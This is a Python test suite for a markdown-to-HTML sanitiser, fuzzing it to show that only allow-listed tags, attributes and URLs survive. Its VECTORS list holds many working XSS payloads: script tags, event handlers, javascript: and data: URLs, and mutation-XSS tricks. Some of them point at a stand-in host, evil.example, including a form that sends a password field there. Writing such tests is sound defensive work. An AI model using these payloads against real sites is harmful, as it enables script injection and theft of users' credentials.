"""Whatever the text: no script runs, nothing is loaded from outside, nothing clashes with the page around it."""

import contextlib
import re

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from playbooks.text import Refused, read
from playbooks.text.cleaning import ATTRIBUTES, CLASSES, TAGS, VALUES

from . import markup

VECTORS = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](<java\tscript:alert(1)>)',
    '[x](&#x6A;avascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '<javascript:alert(1)>',
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
    '![x" onerror="alert(1)](y)',
    '![x](y "z\\" onerror=\\"alert(1)")',
    '[x](y "\'\\" onmouseover=alert(1)")',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<style>@import "//evil.example/x.css";</style>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<form action="//evil.example"><input name=password><button>Go</button></form>',
    '<input type=text autofocus onfocus=alert(1)>',
    '<INPUT/type=image src=//evil.example/x.png>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<video src=x onerror=alert(1)></video>',
    '<video src="//evil.example/x.mp4" poster=javascript:alert(1) autoplay><script>alert(1)</script></video>',
    '<video><source src=x onerror=alert(1)><img src=x onerror=alert(1)></video>',
    '[[<img src=x onerror=alert(1)>]]',
    '[[x y|<script>alert(1)</script>]]',
    '[["onclick="alert(1)|x" onclick="alert(1)]]',
    '![x](file:a/"onerror="alert(1).png)',
    '![<script>](file:a/b.mp4)',
    '![x" onload="alert(1)](https://evil.example/"onload="alert(1))',
    '<details open ontoggle=alert(1)>x</details>',
    '<body onload=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml <img src=x onerror=alert(1)> ?>',
    '`<script>`<script>alert(1)</script>',
    '```"><script>alert(1)</script>\nx\n```',
    '```html\n<script>alert(1)</script>\n```',
    '# <script>alert(1)</script> {#x" onclick="alert(1)}',
    '# x {#"><img/src=x/onerror=alert(1)>}',
    '- [ ] <img src=x onerror=alert(1)> {role="><script>}',
    '- [ ] a {#k"><script>alert(1)</script>}',
    '- [ ] a"onclick="alert(1)\n\n  <img src=x onerror=alert(1)>',
    'x[^"><script>]\n\n[^"><script>]: y',
    '| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |',
    '> [!NOTE]\n> <script>alert(1)</script>',
    '\x02wzxhzdk:0\x03 <script>alert(1)</script> &#2;wzxhzdk:0&#3;',
    '![&#2;wzxhzdk:0&#3;](y) <b onclick=alert(1)>',
    '[x](playbook:"><script>alert(1)</script>)',
    '[x](playbook:a#"onclick="alert(1))',
    '<a id="main" name="csrfmiddlewaretoken" href="#x">x</a>',
    '<div class="bar skip dialog" role="alert" tabindex="5" hidden>x</div>',
]
ALLOWED = {tag: ATTRIBUTES['*'] | ATTRIBUTES.get(tag, set()) | VALUES.get(tag, {}).keys() for tag in TAGS}


def assert_safe(html):
    """Nothing but what the allow-list names; addresses lead nowhere that could run anything."""
    for elem in lxml.html.fromstring(f'<div>{html}</div>').iter():
        assert elem.tag in TAGS, (elem.tag, html)
        for name, value in elem.attrib.items():
            if name == 'class':
                assert set(value.split()) <= CLASSES.get(elem.tag, set()), (value, html)
            elif name == 'rel':
                assert value == 'noopener noreferrer'
            elif elem.tag == 'video' and name == 'controls':
                assert value == ''
            elif elem.tag == 'input' and name in ('type', 'disabled'):
                assert (name, value) in [('type', 'checkbox'), ('disabled', '')]
            else:
                assert name in ALLOWED[elem.tag], (elem.tag, name, html)
            if name == 'href':
                assert not re.match(r'[\s\x00-\x20]*(?!https?:|mailto:|tel:)[a-z][\s\w+.-]*:', value, re.IGNORECASE), (
                    html
                )
            if name == 'src':
                assert not re.match(r'[\s\x00-\x20]*(?:[a-z][\w+.-]*:|[/\\]{2})', value, re.IGNORECASE), html
            if name in ('id', 'name'):
                assert re.match(r's-|i-|fn-|fnref-', value), html


def assert_all_safe(document):
    assert_safe(document.html)
    for item in document.items:
        assert_safe(item.label_html)
        assert_safe(item.detail_html)


@pytest.mark.parametrize('vector', VECTORS)
@pytest.mark.parametrize('place', ['{}', 'a {} b', '- [ ] {}', '- [ ] a\n\n  {}', '> {}', '# {}', '<div>\n\n{}'])
def test_no_vector_comes_through(vector, place):
    document = read(place.replace('{}', vector))

    assert_all_safe(document)


HOSTILE_PIECES = [
    *[
        '<',
        '>',
        '"',
        "'",
        '=',
        ' ',
        '/',
        '<img ',
        '<a ',
        '<b',
        '<script>',
        '</script>',
        '<style>',
        'onerror=x',
        'href=',
        'src=',
    ],
    *[
        'javascript:',
        'data:',
        '//a.b',
        '<svg>',
        '<math>',
        '<table>',
        '</',
        '<!--',
        '--',
        '<![CDATA[',
        '&lt;',
        '&#60;',
        '\x02',
    ],
    *[
        'style=x',
        'id=i-a',
        'name=x',
        '<p>',
        '<td>',
        '<select>',
        '<noscript>',
        '<form ',
        '<input ',
        '](',
        '![',
        '[[',
        ']]',
        '<video ',
        'file:a/b.mp4',
        '[',
        '`',
    ],
    *['- [ ] ', '\n', '\n\n', '  ', 'x', '{#', '}', '```html\n'],
]


@given(st.lists(st.sampled_from(HOSTILE_PIECES), max_size=40).map(''.join) | markup.ANYTHING)
@settings(max_examples=400, deadline=None)
def test_no_mixture_of_markup_comes_through(text):
    with contextlib.suppress(Refused):
        assert_all_safe(read(text))


@pytest.mark.parametrize(
    'written',
    [
        '![A map](https://a.example/m.png)',
        '<img src="https://a.example/m.png" alt="A map">',
        '![A map](//a.example/m.png)',
    ],
)
def test_a_picture_that_lies_elsewhere_becomes_a_link(written):
    html = read(written).html

    assert '<img' not in html
    assert re.search(r'<a href="(?:https:)?//a\.example/m\.png"[^>]*>A map</a>', html)


def test_a_picture_elsewhere_within_a_link_becomes_its_text():
    html = read('[![A map](https://a.example/m.png)](https://a.example/)').html

    assert html == '<p><a href="https://a.example/" rel="noopener noreferrer"><span>A map</span></a></p>'


def test_a_picture_of_the_site_stays():
    assert read('![A map](/media/m.png "Title")').html == '<p><img alt="A map" src="/media/m.png" title="Title"></p>'


def test_raw_html_cannot_take_the_ids_of_items_headings_or_the_page():
    html = read('# A\n\n<a id="i-b"></a><a id="main" href="#main">x</a>\n\n- [ ] b').html

    assert re.findall(r'id="([^"]*)"', html) == ['s-a', 's-i-b', 's-main', 'i-b']
    assert 'href="#s-main"' in html


def test_fields_in_the_text_are_boxes_that_cannot_be_ticked():
    html = read('<input type=text name=password value=x> <INPUT checked>').html

    assert re.findall('<input[^>]*>', html) == [
        '<input disabled="" type="checkbox">',
        '<input disabled="" checked="" type="checkbox">',
    ]
